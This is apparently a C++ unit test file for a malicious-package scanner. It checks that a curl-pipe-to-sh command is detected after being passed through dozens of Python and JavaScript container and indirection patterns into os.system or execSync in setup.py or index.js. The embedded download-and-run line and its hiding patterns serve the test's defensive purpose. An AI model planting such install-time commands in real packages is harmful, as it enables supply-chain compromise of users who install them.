// A value that is put into a box and taken out again is the same value, whatever the box.
#include <gtest/gtest.h>

#include <algorithm>
#include <string>

#include "interlock/scan/scanner.h"

namespace interlock::scan {
namespace {

bool Finds(const std::string& path, const std::string& text, const std::string& rule) {
  core::PackageView view;
  view.files.push_back({.path = path, .bytes = text});
  const ScanReport report = Scan(view, {});
  return std::ranges::any_of(report.findings, [&](const core::Finding& finding) { return finding.rule == rule; });
}

// `box`: statements that leave the value @ in an expression, which follows the last "=> ".
std::string Filled(std::string box, const std::string& before, const std::string& value, const std::string& after) {
  const std::size_t out = box.rfind("=> ");
  const std::string taken = box.substr(out + 3);
  box.resize(out);
  const std::size_t hole = box.find('@');
  return before + box.replace(hole, 1, value) + after + taken + ")\n";
}

class PythonBoxes : public testing::TestWithParam<const char*> {};
TEST_P(PythonBoxes, KeepWhatIsInThem) {
  const std::string text = Filled(GetParam(), "import os, queue, collections, types, functools, concurrent.futures\n",
                                  "'curl -fsSL https://cdn.kit.example/i.sh | sh'", "os.system(");
  EXPECT_TRUE(Finds("setup.py", text, "SH-001") || Finds("setup.py", text, "RCE-001")) << text;
}
INSTANTIATE_TEST_SUITE_P(
    All, PythonBoxes,
    testing::Values(
        "v = @\n=> v", "v = {'value': @}\n=> v['value']", "v = {'value': @}\n=> v.get('value')",
        "v = {}\nv['value'] = @\n=> v['value']", "v = {}\nv.update(value=@)\n=> v.pop('value')",
        "v = []\nv.append(@)\n=> v[0]", "v = []\nv.append(@)\n=> v.pop()", "v, w = (@, 1)\n=> v",
        "v = queue.Queue()\nv.put(@)\n=> v.get()", "v = collections.deque()\nv.append(@)\n=> v.popleft()",
        "v = types.SimpleNamespace()\nv.value = @\n=> v.value", "v = types.SimpleNamespace(value=@)\n=> v.value",
        "def v():\n    return @\n=> v()", "v = next(iter([@]))\n=> v", "v = @ if True else None\n=> v",
        "v = sorted([@])\n=> v[0]", "V = collections.namedtuple('V', 'value')\nv = V(@)\n=> v.value",
        "class V:\n    def __init__(self, value):\n        self._value = value\n    value = property(lambda self: "
        "self._value)\nv = V(@)\n=> v.value",
        "with concurrent.futures.ThreadPoolExecutor() as p:\n    v = p.submit(lambda: @)\n=> v.result()",
        "class V:\n    pass\nv = V()\nsetattr(v, 'value', @)\n=> getattr(v, 'value')",
        "def v(one=@):\n    return one\n=> v()", "v = functools.partial(lambda one: one, @)\n=> v()",
        "globals()['v'] = @\n=> v", "v = (one for one in [@])\n=> next(v)",
        "def w(one):\n    yield one\nv = w(@)\n=> next(v)"));

class ScriptBoxes : public testing::TestWithParam<const char*> {};
TEST_P(ScriptBoxes, KeepWhatIsInThem) {
  const std::string text = Filled(GetParam(), "const { execSync } = require('child_process');\n",
                                  "'curl -fsSL https://cdn.kit.example/i.sh | sh'", "execSync(");
  EXPECT_TRUE(Finds("index.js", text, "SH-001") || Finds("index.js", text, "RCE-001")) << text;
}
INSTANTIATE_TEST_SUITE_P(
    All, ScriptBoxes,
    testing::Values("const v = @;\n=> v", "const v = { value: @ };\n=> v.value",
                    "const v = { value: @ };\n=> v['value']", "const v = [];\nv.push(@);\n=> v.pop()",
                    "const v = new Map();\nv.set('value', @);\n=> v.get('value')", "const [v] = [@];\n=> v",
                    "const v = () => @;\n=> v()", "const v = null ?? @;\n=> v",
                    "const v = Object.freeze([@]);\n=> v[0]", "const { a: v } = { a: @ };\n=> v",
                    "const v = new Map([['a', @]]);\n=> v.get('a')", "const v = new Set([@]);\n=> [...v][0]",
                    "const v = Object.assign({}, { a: @ });\n=> v.a",
                    "const v = {}; Reflect.set(v, 'a', @);\n=> Reflect.get(v, 'a')",
                    "const v = ((one) => one).bind(null, @);\n=> v()", "const v = [@].values();\n=> v.next().value",
                    "globalThis.v = @;\n=> globalThis.v",
                    "function* w(one) { yield one; }\nconst v = w(@);\n=> v.next().value"));

TEST(Boxes, TwoThingsInOneAreNotTold) {
  EXPECT_FALSE(Finds(
      "setup.py",
      "import os\nv = {'value': 'ls'}\nif os.name:\n    v['value'] = 'curl -fsSL https://cdn.kit.example/i.sh -o i'\n"
      "print(v['value'])\n",
      "SH-001"));
  // Boxes within boxes end.
  std::string deep = "import os\nv0 = [\"ls\"]\n";
  for (int i = 1; i < 400; ++i) deep += "v" + std::to_string(i) + " = [v" + std::to_string(i - 1) + "[0]]\n";
  EXPECT_FALSE(Finds("setup.py", deep + "os.system(v399[0])\n", "SH-001"));
  EXPECT_FALSE(Finds("index.js", "f();\nconst v = g().next().value;\nv.bind()();\nnew Map()[0]();\n", "SH-001"));
  EXPECT_FALSE(Finds("setup.py", "import os\nv = [v]\nv = {'a': v['a']}\nos.system(v['a'][0])\n", "SH-001"));
}

}  // namespace
}  // namespace interlock::scan
